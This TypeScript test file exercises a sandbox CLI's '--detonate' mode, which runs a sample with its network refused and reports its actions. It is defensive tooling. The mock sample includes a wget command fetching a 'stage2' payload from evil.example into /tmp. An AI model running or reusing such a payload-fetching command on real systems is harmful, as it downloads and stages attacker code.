import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { mayfly } from "./cli-process.ts";

let directory: string;
beforeAll(() => {
  directory = mkdtempSync(join(tmpdir(), "mayfly-detonate-"));
});
afterAll(() => {
  rmSync(directory, { recursive: true, force: true });
});

describe("mayfly run --detonate", () => {
  it("runs a sample unseen for its time, refuses its network, and shows what it did", async () => {
    const sample = join(directory, "sample.sh");
    writeFileSync(
      sample,
      "echo you-should-not-see-this\nwget -q -t 1 -O /tmp/next http://evil.example/stage2\ntouch /tmp/dropped\nsleep 1000\n",
    );
    const { status, stdout, stderr } = await mayfly([
      "run",
      sample,
      "--detonate",
      "10",
      "--",
      "sh",
      "/in/sample.sh",
    ]);
    expect(status, stderr).toBe(0);
    const shown = stdout.toString();
    expect(`${shown}${stderr}`).not.toContain("you-should-not-see-this");
    expect(shown).toContain("over its limit timeMs");
    expect(shown).toMatch(/refused: evil\.example:80/);
    expect(shown).toContain("/tmp/dropped");
    expect(shown).toMatch(/Disposal\n( +✓ .*\n?)+/);
  });

  it("ends with the command where that ends before, whatever its status", async () => {
    const { status, stdout } = await mayfly(["run", "--detonate", "1m", "--", "sh", "-c", "exit 3"]);
    expect(status).toBe(0);
    expect(stdout.toString()).toContain("exited with status 3");
  });

  it.each([
    [["--detonate", "soon"], /is no time/],
    [["--detonate", "60", "--allow", "web"], /does not go with --allow/],
    [["--detonate", "60", "--time", "5s"], /does not go with --time/],
    [["--detonate", "60", "--no-report"], /does not go with --no-report/],
  ])("explains %j", async (options, message) => {
    const { status, stderr } = await mayfly(["run", ...options, "--", "true"]);
    expect(status).toBe(64);
    expect(stderr).toMatch(message);
  });

  it("says so where the command cannot be started", async () => {
    const { status } = await mayfly(["run", "--detonate", "10", "--", "/no/such/program"]);
    expect(status).toBe(127);
  });
});
